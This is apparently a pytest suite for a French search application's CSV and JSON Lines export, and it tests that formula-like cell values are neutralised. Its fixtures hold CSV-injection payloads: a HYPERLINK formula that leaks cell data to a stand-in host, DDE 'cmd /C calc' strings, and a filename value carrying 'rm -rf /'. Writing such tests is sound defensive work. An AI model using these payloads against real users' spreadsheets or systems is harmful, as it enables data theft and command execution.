"""Exports: streamed CSV for French spreadsheets and JSON Lines, every matching fiche, formulas neutralised."""

from __future__ import annotations

import csv
import io
import json

import pytest

from indexer.build import build_index
from indexer.fiche import Fiche
from search_app.export import column_heading, export_fields, export_filename, neutralize
from search_app.results import SearchRequest


def export(client, expect: int = 200, **query):
    response = client.get("/api/export", query_string=query)
    assert response.status_code == expect, response.get_data(as_text=True)
    return response


def csv_rows(response) -> list[list[str]]:
    raw = response.get_data()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def search_ids(client, **query) -> list[str]:
    """Every id a search finds, page after page (the sample fits in a few pages)."""
    found, page = [], 1
    while True:
        data = client.get("/api/search", query_string={**query, "page": page, "per_page": 50}).get_json()
        found += [hit["id"] for hit in data["hits"]]
        if len(found) >= data["total"]:
            return found
        page += 1


@pytest.mark.parametrize("query", [
    {"department": "Loire-Atlantique"},
    {"q": "parents"},
    {"q": "parents", "keyword": "Parentalité"},
    {"q": "parentalite jardn"},
    {"q": "PARENTS ENFANTS"},
    {},
])
def test_csv_of_a_filtered_search_has_one_row_per_matching_fiche(client, query):
    total = client.get("/api/search", query_string={**query, "per_page": 0}).get_json()["total"]
    rows = csv_rows(export(client, **query))
    header, body = rows[0], rows[1:]
    assert total > 0 and len(body) == total
    assert header == [column_heading(name) for name in export_fields()]
    assert all(len(row) == len(header) for row in body)
    assert [row[header.index("Identifiant")] for row in body] == search_ids(client, **query)


def test_csv_cells_carry_every_field_lists_joined(client, sample_fiches):
    fiche = next(f for f in sample_fiches if len(f.keywords) > 1 and len(f.public) >= 1)
    rows = csv_rows(export(client, q=f'"{fiche.title}"'))
    header = rows[0]
    row = next(r for r in rows[1:] if r[0] == fiche.id)
    cells = dict(zip(header, row))
    assert cells["Titre"] == neutralize(fiche.title)
    assert cells["Mots clés"] == " | ".join(fiche.keywords)
    assert cells["Résumé"] == neutralize(fiche.summary)
    assert cells["Adresse de la fiche"] == f"http://localhost/actions/{fiche.id}"
    assert cells["L'expérience, ses objectifs, ses acteurs et ses phases"] == neutralize(fiche.experience)


def test_export_is_streamed_and_named_after_the_selection(client):
    response = export(client, department="Somme", year="2015")
    assert response.is_streamed
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="actions-somme-2015.csv"'
    assert response.headers["X-Total-Count"] == "1"
    jsonl = export(client, format="jsonl", q="jardin partagé", department="Isère")
    assert jsonl.headers["Content-Disposition"] == 'attachment; filename="actions-jardin-partage-isere.jsonl"'


def test_export_is_not_capped_by_paging_limits(sample_index, sample_fiches):
    from search_app import create_app

    app = create_app({"INDEX_DIR": sample_index, "BUILD_IF_MISSING": False, "MAX_PER_PAGE": 2, "MAX_PAGE": 3})
    rows = csv_rows(app.test_client().get("/api/export"))
    assert len(rows) - 1 == len(sample_fiches) > 2 * 3


def test_jsonl_is_one_whole_fiche_per_line(client, sample_fiches):
    body = export(client, format="jsonl").get_data(as_text=True)
    lines = body.splitlines()
    assert len(lines) == len(sample_fiches)
    by_id = {f.id: f for f in sample_fiches}
    for line in lines:
        record = json.loads(line)
        fiche = by_id[record.pop("id")]
        assert record.pop("url") == f"http://localhost/actions/{fiche.id}"
        expected = fiche.to_dict()
        for internal in ("id", "source_file", "source_line"):
            expected.pop(internal)
        assert record == expected


def test_empty_selection_is_the_header_only(client):
    rows = csv_rows(export(client, q="zzzqqqxxx introuvable"))
    assert len(rows) == 1 and rows[0][0] == "Identifiant"


@pytest.mark.parametrize("query, message", [
    ({"format": "xlsx"}, "format d'export inconnu"),
    ({"q": "x" * 10_001}, "trop longue"),
    ({"sort": "hasard"}, "tri inconnu"),
])
def test_bad_export_parameters_are_french_400s(client, query, message):
    response = export(client, expect=400, **query)
    data = response.get_json()
    assert set(data) == {"error"} and message in data["error"]["message"]


def test_neutralize_prefixes_every_formula_start():
    for hostile in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert neutralize(hostile) == "'" + hostile
    for harmless in ("Atelier", "1 000 €", "'déjà", "", " =espace d'abord"):
        assert neutralize(harmless) == harmless


def test_filename_from_query_and_filters_in_facet_order():
    request = SearchRequest.make("", {"year": ["2019"], "department": ["Somme"]})
    assert export_filename(request, "csv") == "actions-somme-2019.csv"
    assert export_filename(SearchRequest.make(), "jsonl") == "actions.jsonl"
    odd = SearchRequest.make('"; rm -rf / ; <b>', {"department": ["Côte-d'Or"]})
    assert export_filename(odd, "csv") == "actions-rm-rf-b-cote-d-or.csv"


HOSTILE = dict(
    title='=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")',
    structure="+cmd|' /C calc'!A0",
    department="Somme", year="2019", status="En cours", dimension="@SUM(1+1)*cmd|' /C calc'!A0",
    keywords=["-2+3+cmd|' /C calc'!A0", "Parentalité"], summary="@SUM(A1:A9)",
    public=["\t=1+1"], experience="\r=1+1", partners=["=cmd"],
)


@pytest.fixture
def hostile_client(tmp_path):
    from search_app import create_app

    root = tmp_path / "index"
    build_index([Fiche(id="hostile-00000001", **HOSTILE),
                 Fiche(id="sage-00000002", title="Atelier cuisine", department="Somme", year="2019",
                       summary="Une cuisine partagée.")], root)
    return create_app({"INDEX_DIR": root, "BUILD_IF_MISSING": False}).test_client()


def test_hostile_fiche_comes_out_neutralised(hostile_client):
    rows = csv_rows(export(hostile_client, department="Somme"))
    header = rows[0]
    assert len(rows) == 3
    cells = dict(zip(header, next(row for row in rows[1:] if row[0] == "hostile-00000001")))
    assert cells["Titre"] == "'" + HOSTILE["title"]
    assert cells["Structure organisatrice"] == "'" + HOSTILE["structure"]
    assert cells["Dimension"] == "'" + HOSTILE["dimension"]
    assert cells["Mots clés"] == "'-2+3+cmd|' /C calc'!A0 | Parentalité"
    assert cells["Résumé"] == "'@SUM(A1:A9)"
    assert cells["Public"] == "'\t=1+1"
    assert cells["Partenaires d'action"] == "'=cmd"
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
